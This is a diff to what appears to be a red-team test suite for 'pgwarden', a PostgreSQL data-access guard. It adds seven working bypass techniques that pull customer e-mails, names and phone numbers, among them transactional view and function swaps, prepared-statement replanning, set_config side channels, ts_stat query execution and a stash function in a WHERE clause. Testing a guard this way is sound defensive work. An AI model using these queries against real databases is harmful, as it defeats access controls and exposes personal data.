@@ -1166,6 +1166,109 @@ def t_index_expression_raise(ctx: Ctx) -> None:
     ctx.q(c, "CREATE INDEX ON scratch.rt2_ix ((scratch.rt2_boomi(id)))")
 
 
+@technique("rows")
+def t_view_swap_in_transaction(ctx: Ctx) -> None:
+    """A harmless view of one's own, known to pgwarden; inside a transaction it is replaced by
+    one over crm.customers and read at once. pgwarden's catalog is reloaded from committed
+    state, so it still sees the harmless view; the ROLLBACK leaves no trace."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE VIEW scratch.rt2_sw AS SELECT 1::bigint AS id, 'x'::text AS e, 'y'::text AS n")
+    time.sleep(2)
+    t = ctx.connect()
+    ctx.q(t, "BEGIN")
+    ctx.q(t, "CREATE OR REPLACE VIEW scratch.rt2_sw AS "
+             'SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM crm.customers')  # fmt: skip
+    time.sleep(2)  # however long it takes: the replaced view is not committed
+    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_sw WHERE id > 0")
+    ctx.q(t, "ROLLBACK")
+
+
+@technique("rows")
+def t_view_swap_multistatement(ctx: Ctx) -> None:
+    """The same swap in one simple-query string: replace the view, then read it."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE VIEW scratch.rt2_sw2 AS SELECT 1::bigint AS id, 'x'::text AS e")
+    time.sleep(2)
+    ctx.q(c, "CREATE OR REPLACE VIEW scratch.rt2_sw2 AS SELECT customer_id AS id, "
+             '"Email" || \' \' || "FullName" AS e FROM crm.customers; '
+             "SELECT id, e FROM scratch.rt2_sw2 WHERE id > 0")  # fmt: skip
+
+
+@technique("rows")
+def t_function_replace_in_transaction(ctx: Ctx) -> None:
+    """A harmless SQL function of one's own; inside a transaction its body is replaced by a
+    read of crm.customers and called; rolled back after."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_fy(a bigint) RETURNS TABLE (id bigint, e text, n text) "
+             "LANGUAGE sql AS $f$ SELECT a, 'x'::text, 'y'::text $f$")  # fmt: skip
+    time.sleep(2)
+    t = ctx.connect()
+    ctx.q(t, "BEGIN")
+    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_fy(1)")
+    ctx.q(t, "CREATE OR REPLACE FUNCTION scratch.rt2_fy(a bigint) RETURNS TABLE (id bigint, e text, n text) "
+             'LANGUAGE sql AS $f$ SELECT customer_id, "Email", "FullName" FROM crm.customers '
+             "WHERE customer_id >= a $f$")  # fmt: skip
+    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_fy(1)")
+    ctx.q(t, "ROLLBACK")
+
+
+@technique("rows")
+def t_rename_swap_prepared(ctx: Ctx) -> None:
+    """PREPARE over an empty table of one's own; in a transaction the table is renamed away
+    and a view over crm.customers takes its name; EXECUTE replans against it."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_pp (id bigint, e text, n text)")
+    time.sleep(2)
+    t = ctx.connect()
+    ctx.q(t, "BEGIN")
+    ctx.q(t, "PREPARE rt2_pp(bigint, bigint) AS SELECT id, e, n FROM scratch.rt2_pp WHERE id BETWEEN $1 AND $2")
+    ctx.q(t, "EXECUTE rt2_pp(1, 700)")
+    ctx.q(t, "ALTER TABLE scratch.rt2_pp RENAME TO rt2_pp_old")
+    ctx.q(t, "CREATE VIEW scratch.rt2_pp AS "
+             'SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM crm.customers')  # fmt: skip
+    for a in range(1, N_ALL, 700):  # in chunks: a chunk with a canary is cut, the others are not
+        if ctx.q(t, f"EXECUTE rt2_pp({a}, {a + 699})") is None:
+            break
+    ctx.q(t, "ROLLBACK")
+
+
+@technique("rows")
+def t_set_config_side_channel(ctx: Ctx) -> None:
+    """No DDL, plain SELECTs: the WHERE clause appends every customer's e-mail and name to a
+    custom setting and is false, so no row (and no key to check) comes back; the setting is
+    read with current_setting() afterwards."""
+    c = ctx.connect()
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
+                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
+                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
+        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")
+
+
+@technique("rows")
+def t_ts_stat_query(ctx: Ctx) -> None:
+    """ts_stat() runs the query it is given as text and returns its words: every e-mail."""
+    c = ctx.connect()
+    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', \"Em' || 'ail\") "
+             "FROM crm.customers')")  # fmt: skip
+    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', replace(phone, '' '', ''''))"
+             " FROM crm.customer_phones')")  # fmt: skip
+
+
+@technique("rows")
+def t_stash_function_in_where(ctx: Ctx) -> None:
+    """A SQL function of one's own that INSERTs its arguments, called in the WHERE clause with
+    each customer's values; the WHERE is false for all, the stash is read after."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_st (k bigint, e text, n text)")
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_stash(k bigint, e text, n text) RETURNS boolean LANGUAGE sql "
+             "AS 'INSERT INTO scratch.rt2_st VALUES (k, e, n) RETURNING false'")  # fmt: skip
+    time.sleep(2)
+    ctx.q(c, 'SELECT customer_id FROM customers WHERE customer_id > 0 '
+             'AND scratch.rt2_stash(customer_id, "Email", "FullName")')  # fmt: skip
+    ctx.q(c, "SELECT k, e, n FROM scratch.rt2_st WHERE k > 0")
+
+
 # -- the analyst: masked contact data ------------------------------------------------------
 
 
